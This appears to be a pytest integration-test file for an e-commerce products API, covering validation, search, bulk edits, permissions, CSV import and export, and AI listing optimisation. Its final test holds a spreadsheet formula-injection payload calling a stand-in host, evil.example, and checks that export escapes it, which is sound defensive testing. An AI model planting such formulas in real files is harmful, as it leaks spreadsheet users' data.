"""``/api/products``: the catalog over REST, and listing optimisation on a real worker."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

from fastapi.testclient import TestClient
from sqlmodel import Session

from bizq_app.accounts.models import Role, Store
from bizq_app.accounts.stores import StoreView
from bizq_app.catalog.models import Product
from bizq_app.core.db import get_engine
from bizq_app.setup.seed import load_seed
from tests.factories import make_sale
from tests.integration.conftest import signup, start_rq_worker, stop

CANDLE = {
    "title": "Lavender soy candle",
    "description": "Hand-poured soy wax candle with lavender oil. Burns 40 hours.",
    "price": "24.00",
    "cost": "7.50",
    "inventory_quantity": 40,
    "sku": "CAN-LAV-200",
    "status": "active",
}


def owner_with_store(client: TestClient, name: str = "Glow") -> tuple[dict[str, str], str]:
    auth = signup(client, f"owner-{uuid.uuid4().hex[:6]}@example.com")
    store_id = client.post("/api/stores", json={"name": name}, headers=auth).json()["id"]
    return auth, store_id


def add(client: TestClient, auth: dict[str, str], store_id: str, **fields: Any) -> Any:
    return client.post("/api/products", headers=auth, json={"store_id": store_id, **fields})


def test_a_product_is_created_read_and_edited_with_its_margin(client: TestClient) -> None:
    auth, store_id = owner_with_store(client)

    created = add(client, auth, store_id, **CANDLE)
    product_id = created.json()["id"]
    edited = client.put(
        f"/api/products/{product_id}",
        headers=auth,
        json={
            "price": "29.99",
            "variants": [
                {"options": {"size": "large"}, "price": "34.99", "sku": "CAN-LAV-400", "stock": 12}
            ],
        },
    )

    assert created.status_code == 201, created.text
    assert created.json()["margin_percent"] == "68.8"
    assert edited.status_code == 200, edited.text
    fetched = client.get(f"/api/products/{product_id}", headers=auth).json()
    assert fetched["price"] == "29.99" and fetched["title"] == CANDLE["title"]  # others kept
    assert fetched["variants"] == [
        {"options": {"size": "large"}, "price": "34.99", "sku": "CAN-LAV-400", "stock": 12}
    ]


def test_every_bad_field_is_reported_at_once_and_nothing_is_saved(client: TestClient) -> None:
    auth, store_id = owner_with_store(client)

    response = add(
        client,
        auth,
        store_id,
        title="x" * 10_000,
        price="-3",
        cost="abc",
        inventory_quantity=-1,
        variants=[
            {"options": {"size": "M"}, "price": "5", "stock": 1},
            {"options": {"size": "M"}, "price": "6", "stock": 1},
        ],
    )

    assert response.status_code == 422
    paths = {e["path"]: e["message"] for e in response.json()["errors"]}
    assert paths["$.title"] == "must be at most 200 characters (it has 10,000)"
    assert paths["$.price"] == "must be 0 or more"
    assert paths["$.cost"] == "must be an amount such as 19.99"
    assert paths["$.inventory_quantity"] == "must be 0 or more"
    assert paths["$.variants[1].options"] == "repeats the options of another variant"
    assert client.get(f"/api/products?store_id={store_id}", headers=auth).json()["total"] == 0
    empty = add(client, auth, store_id, title="   ", price="1")
    assert [e["path"] for e in empty.json()["errors"]] == ["$.title"]


def test_price_below_cost_is_saved_with_a_warning_and_a_taken_sku_is_refused(
    client: TestClient,
) -> None:
    auth, store_id = owner_with_store(client)
    add(client, auth, store_id, **CANDLE)

    loss_leader = add(client, auth, store_id, title="Tea light", price="1.00", cost="1.40")
    same_sku = add(client, auth, store_id, **{**CANDLE, "title": "Other"})

    assert loss_leader.status_code == 201
    assert loss_leader.json()["warnings"] == [
        "The price 1.00 is below the cost 1.40: each sale loses money."
    ]
    assert same_sku.status_code == 409
    assert same_sku.json()["errors"][0]["path"] == "$.sku"


def test_the_list_searches_filters_sorts_and_pages(client: TestClient) -> None:
    auth, store_id = owner_with_store(client)
    for i, (title, price, status) in enumerate(
        [
            ("Lavender candle", "24", "active"),
            ("Cedar candle", "18", "draft"),
            ("Oat soap", "9", "active"),
            ("Gift box", "40", "archived"),
        ]
    ):
        add(client, auth, store_id, title=title, price=price, sku=f"SKU-{i}", status=status)

    def titles(query: str) -> list[str]:
        page = client.get(f"/api/products?store_id={store_id}&{query}", headers=auth).json()
        return [p["title"] for p in page["items"]]

    assert titles("q=CANDLE&sort=price") == ["Cedar candle", "Lavender candle"]
    assert titles("q=sku-2") == ["Oat soap"]
    assert titles("status=active&sort=-price") == ["Lavender candle", "Oat soap"]
    assert titles("sort=title&limit=2&offset=2") == ["Lavender candle", "Oat soap"]
    bad = client.get(f"/api/products?store_id={store_id}&sort=colour", headers=auth)
    assert bad.status_code == 422 and bad.json()["errors"][0]["path"] == "$.sort"


def test_bulk_edit_changes_all_or_nothing(client: TestClient) -> None:
    auth, store_id = owner_with_store(client)
    ids = [add(client, auth, store_id, title=t, price="10").json()["id"] for t in ("A", "B")]

    done = client.post(
        "/api/products/bulk",
        headers=auth,
        json={"store_id": store_id, "product_ids": ids, "fields": {"price": "12.50"}},
    )
    refused = client.post(
        "/api/products/bulk",
        headers=auth,
        json={
            "store_id": store_id,
            "product_ids": [*ids, str(uuid.uuid4())],
            "fields": {"status": "archived"},
        },
    )

    assert [p["price"] for p in done.json()["items"]] == ["12.50", "12.50"]
    assert refused.status_code == 404
    statuses = {
        p["status"]
        for p in client.get(f"/api/products?store_id={store_id}", headers=auth).json()["items"]
    }
    assert statuses == {"draft"}


def test_a_product_on_an_open_order_cannot_be_deleted_but_can_be_archived(
    client: TestClient,
) -> None:
    auth, store_id = owner_with_store(client)
    product_id = add(client, auth, store_id, **CANDLE).json()["id"]
    with Session(get_engine()) as session:
        store = session.get(Store, uuid.UUID(store_id))
        product = session.get(Product, uuid.UUID(product_id))
        make_sale(session, StoreView(store=store, role=Role.OWNER), product, 1)  # type: ignore[arg-type]
        session.commit()

    deleted = client.delete(f"/api/products/{product_id}", headers=auth)
    archived = client.put(f"/api/products/{product_id}", headers=auth, json={"status": "archived"})

    assert deleted.status_code == 409
    assert "open order" in deleted.json()["detail"]
    assert archived.json()["status"] == "archived"


def test_others_cannot_see_or_change_a_stores_products(client: TestClient) -> None:
    auth, store_id = owner_with_store(client)
    product_id = add(client, auth, store_id, **CANDLE).json()["id"]
    stranger = signup(client, "stranger@example.com")

    assert client.get(f"/api/products/{product_id}", headers=stranger).status_code == 403
    assert client.delete(f"/api/products/{product_id}", headers=stranger).status_code == 403
    assert add(client, stranger, store_id, title="Mine").status_code == 403


def test_optimising_a_listing_shows_the_rewrite_then_applies_or_discards_it(
    client: TestClient, redis_db: object
) -> None:
    with Session(get_engine()) as session:
        load_seed(session=session)
        session.commit()
    auth, store_id = owner_with_store(client)
    product_id = add(client, auth, store_id, **CANDLE).json()["id"]
    worker = start_rq_worker()
    try:
        first = client.post(f"/api/products/{product_id}/optimize", headers=auth, json={})
        second = client.post(
            f"/api/products/{product_id}/optimize", headers=auth, json={"focus": "search"}
        )
    finally:
        stop(worker)

    proposal = first.json()
    assert first.status_code == 200, first.text
    assert proposal["oldTitle"] == CANDLE["title"]
    assert proposal["newTitle"] != CANDLE["title"] and "andle" in proposal["newTitle"]
    assert "lavender" in [k.lower() for k in proposal["newKeywords"]]
    assert 0 <= proposal["expectedConversionIncrease"] <= 100
    unchanged = client.get(f"/api/products/{product_id}", headers=auth).json()
    assert unchanged["title"] == CANDLE["title"]  # nothing changes before the owner applies

    task_id = proposal["taskId"]
    applied = client.post(f"/api/products/{product_id}/optimize/{task_id}/apply", headers=auth)
    assert applied.json()["title"] == proposal["newTitle"]
    assert applied.json()["description"] == proposal["newDescription"]

    other = second.json()["taskId"]
    discarded = client.post(f"/api/products/{product_id}/optimize/{other}/discard", headers=auth)
    assert discarded.json()["title"] == proposal["newTitle"]  # the discarded one changed nothing
    task = client.get(f"/api/tasks/{other}", headers=auth).json()
    assert task["status"] == "failed" and "Discarded" in task["status_reason"]


def import_csv(client: TestClient, auth: dict[str, str], store_id: str, text: str, **q: Any) -> Any:
    params = {"store_id": store_id, **q}
    return client.post(
        "/api/products/import",
        params=params,
        headers={**auth, "Content-Type": "text/csv"},
        content=text.encode(),
    )


def test_a_csv_with_bad_rows_imports_nothing_and_says_which_line_and_why(
    client: TestClient,
) -> None:
    auth, store_id = owner_with_store(client)
    text = (
        "title,price,cost,sku,inventory_quantity\n"
        "Lavender candle,24.00,7.50,CAN-1,40\n"
        ",9.00,2.00,SOAP-1,3\n"
        "Cedar candle,cheap,7.50,CAN-2,10\n"
        "Gift box,40,12,CAN-1,1\n"
    )

    refused = import_csv(client, auth, store_id, text)
    skipped = import_csv(client, auth, store_id, text, skip_bad_rows="true")

    assert refused.status_code == 422
    assert {(e["path"], e["message"]) for e in refused.json()["errors"]} == {
        ("$.rows[3].title", "is required"),
        ("$.rows[4].price", "must be an amount such as 19.99"),
        ("$.rows[5].sku", "repeats the SKU of line 2"),
    }
    assert skipped.json() == {
        "created": 1,
        "updated": 0,
        "skipped": 3,
        "problems": [
            {"line": 3, "column": "title", "message": "is required"},
            {"line": 4, "column": "price", "message": "must be an amount such as 19.99"},
            {"line": 5, "column": "sku", "message": "repeats the SKU of line 2"},
        ],
    }
    listed = client.get(f"/api/products?store_id={store_id}", headers=auth).json()
    assert [p["title"] for p in listed["items"]] == ["Lavender candle"]


def test_an_exported_csv_edited_and_imported_back_updates_by_sku(client: TestClient) -> None:
    auth, store_id = owner_with_store(client)
    add(client, auth, store_id, **CANDLE)

    exported = client.get(f"/api/products/export?store_id={store_id}", headers=auth)
    edited = exported.text.replace("24.00", "26.50") + "Oat soap,,9.00,2.10,12,SOAP-1,draft\n"
    report = import_csv(client, auth, store_id, edited).json()

    assert exported.headers["content-type"].startswith("text/csv")
    assert exported.text.splitlines()[0] == (
        "title,description,price,cost,inventory_quantity,sku,status"
    )
    assert (report["created"], report["updated"]) == (1, 1)
    items = client.get(f"/api/products?store_id={store_id}&sort=title", headers=auth).json()
    assert [(p["title"], p["price"]) for p in items["items"]] == [
        ("Lavender soy candle", "26.50"),
        ("Oat soap", "9.00"),
    ]


def test_a_title_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_typed(
    client: TestClient,
) -> None:
    auth, store_id = owner_with_store(client)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.post(
        "/api/products",
        headers=auth,
        json={"store_id": store_id, "title": formula, "sku": "F-1", "description": "- soft wax"},
    )

    exported = client.get(f"/api/products/export?store_id={store_id}", headers=auth).text
    report = import_csv(client, auth, store_id, exported).json()

    row = next(csv.reader(io.StringIO(exported.splitlines()[1])))
    assert row[0] == "'" + formula and row[1] == "'- soft wax"
    assert (report["created"], report["updated"]) == (0, 1)
    product = client.get(f"/api/products?store_id={store_id}", headers=auth).json()["items"][0]
    assert (product["title"], product["description"]) == (formula, "- soft wax")
